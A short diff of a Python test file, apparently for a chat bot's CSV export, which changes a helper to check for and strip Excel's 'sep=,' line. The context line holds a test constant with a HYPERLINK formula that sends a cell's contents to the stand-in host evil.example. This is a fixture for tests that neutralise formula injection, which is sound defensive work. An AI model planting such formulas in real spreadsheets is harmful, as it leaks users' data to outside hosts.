@@ -26,8 +26,11 @@ LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
 
 
 def read_csv(calls: list) -> list[list[str]]:
+    """The rows of the CSV file sent (after Excel's `sep=,` line)."""
     doc = next(c for c in calls if c.method == "SendDocument").params["document"]
-    return list(csv.reader(io.StringIO(doc["data"].decode("utf-8-sig"), newline="")))
+    text = doc["data"].decode("utf-8-sig")
+    assert text.startswith("sep=,\r\n")
+    return list(csv.reader(io.StringIO(text.removeprefix("sep=,\r\n"), newline="")))
 
 
 async def test_needs_export_neutralises_formulas_and_keeps_numbers(chat: ChatHarness) -> None:
